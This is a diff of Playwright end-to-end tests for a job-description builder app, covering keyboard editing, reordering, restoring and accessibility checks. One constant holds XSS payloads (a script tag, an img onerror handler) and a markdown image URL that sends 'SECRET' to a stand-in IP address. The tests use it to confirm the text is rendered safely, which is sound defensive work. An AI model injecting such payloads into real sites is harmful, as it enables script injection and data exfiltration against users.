@@ -8,7 +8,7 @@ from playwright.sync_api import Locator, Page, expect
 
 from jd_builder.domain.draft import Draft
 from jd_builder.storage import open_store
-from tests.e2e.conftest import Server, rerun
+from tests.e2e.conftest import Server
 
 HOSTILE = "<script>alert(1)</script> ![x](http://192.0.2.1/x.png?q=SECRET) <img src=x onerror=alert(1)>"
 
@@ -47,6 +47,12 @@ def open_page(page: Page, address: str) -> None:
     expect(row(page, 0)).to_be_visible(timeout=30_000)
 
 
+def unfold(page: Page, name: str) -> None:
+    button = page.get_by_role("button", name=name)
+    button.click()
+    expect(button).to_have_attribute("aria-expanded", "true")
+
+
 def test_a_row_moves_by_keyboard_keeps_the_focus_and_stays_there(page: Page, address: str) -> None:
     open_page(page, address)
     first = names(page)[0]
@@ -72,8 +78,7 @@ def test_words_are_kept_when_the_editor_is_left_and_marked_in_the_document(page:
     open_page(page, address)
     row(page, 0).get_by_role("button", name="Edit").press("Enter")
     page.get_by_label("Duty", exact=True).fill(HOSTILE)
-    with rerun(page):
-        page.get_by_text("What the person will do.").click()
+    page.get_by_text("What the person will do.").click()
     expect(row(page, 0).locator(".text")).to_have_text(HOSTILE)
     expect(row(page, 0).locator(".tag")).to_have_text("Framework, edited")
     expect(page.get_by_role("region", name="The document").locator(".changed")).to_have_text(HOSTILE)
@@ -94,8 +99,7 @@ def test_a_click_elsewhere_ends_the_editing_and_still_does_what_it_was_meant_to(
     third = names(page)[2]
     row(page, 0).get_by_role("button", name="Edit").click()
     page.get_by_label("Duty", exact=True).fill("lead")
-    with rerun(page):
-        row(page, 2).get_by_role("button", name="Move up").click()
+    row(page, 2).get_by_role("button", name="Move up").click()
     expect(row(page, 0).locator(".text")).to_have_text("lead")
     expect(row(page, 1)).to_have_attribute("data-id", third)
 
@@ -105,11 +109,10 @@ def test_the_original_is_one_click_away(page: Page, address: str) -> None:
     before = row(page, 0).locator(".text").text_content()
     row(page, 0).get_by_role("button", name="Edit").click()
     page.get_by_label("Duty", exact=True).fill("lead")
-    with rerun(page):
-        page.keyboard.press("Control+Enter")
+    page.keyboard.press("Control+Enter")
+    expect(row(page, 0).locator(".tag")).to_have_text("Framework, edited")
     row(page, 0).get_by_role("button", name="Edit").click()
-    with rerun(page):
-        page.get_by_role("button", name="Restore the original").click()
+    page.get_by_role("button", name="Restore the original").click()
     expect(row(page, 0).locator(".text")).to_have_text(str(before))
 
 
@@ -117,21 +120,17 @@ def test_a_removed_duty_leaves_the_focus_on_the_next_and_can_be_found_and_added_
     open_page(page, address)
     gone, following = names(page)[3:5]
     text = row(page, 3).locator(".text").text_content()
-    with rerun(page):
-        row(page, 3).get_by_role("button", name="Remove").press("Enter")
+    row(page, 3).get_by_role("button", name="Remove").press("Enter")
     expect_focus(page, f"remove {following}")
-    with rerun(page):
-        page.get_by_role("button", name="Add from the list").click()
+    unfold(page, "Add from the list")
     page.get_by_label("Search the list").fill(str(text))
-    with rerun(page):
-        page.locator(f'.rows .choice[data-id="{gone}"]').get_by_role("button").click()
+    page.locator(f'.rows .choice[data-id="{gone}"]').get_by_role("button").click()
     expect(page.locator(f'.rows .row[data-id="{gone}"]')).to_be_visible()
 
 
 def test_duties_of_ones_own_are_written_one_after_another(page: Page, address: str) -> None:
     open_page(page, address)
-    with rerun(page):
-        page.get_by_role("button", name="Add your own").click()
+    unfold(page, "Add your own")
     for text in ("chair the forum", HOSTILE):
         page.get_by_label("Duty", exact=True).fill(text)
         page.keyboard.press("Control+Enter")
@@ -146,16 +145,13 @@ def test_a_criterion_gets_a_stage_a_reason_and_another_need(page: Page, address:
     page.get_by_role("radio", name="Criteria").click()
     name = "ciso.cyber-risk-management"
     one = page.locator(f'.rows li.row[data-id="{name}"]')
-    with rerun(page):
-        one.get_by_role("button", name="Presentation").click()
+    one.get_by_role("button", name="Presentation").click()
     expect(one.get_by_role("button", name="Presentation")).to_have_attribute("aria-pressed", "true")
     one.get_by_role("button", name="Why essential?").click()
-    with rerun(page):
-        page.keyboard.type("Nobody else decides on risk.")
-        page.keyboard.press("Control+Enter")
+    page.keyboard.type("Nobody else decides on risk.")
+    page.keyboard.press("Control+Enter")
     expect(one).to_contain_text("Why essential: Nobody else decides on risk.")
-    with rerun(page):
-        one.get_by_role("button", name="Make desirable").click()
+    one.get_by_role("button", name="Make desirable").click()
     expect(page.get_by_role("region", name="Desirable").locator(f'[data-id="{name}"]')).to_be_visible()
     expect_focus(page, f"need {name}")
 
@@ -189,8 +185,7 @@ def test_nothing_bars_anyone_and_nothing_is_cut_off(
     open_page(page, address)
     for part, fold in (("Duties", "Add from the list"), ("Duties", "11 left out"), ("Criteria", "Add your own")):
         page.get_by_role("radio", name=part, exact=True).click()
-        with rerun(page):
-            page.get_by_role("button", name=fold).click()
+        unfold(page, fold)
         row(page, 1).get_by_role("button", name="Edit").click()
         found = Axe().run(page).response["violations"]
         serious = [(each["id"], each["nodes"]) for each in found if each["impact"] in ("serious", "critical")]
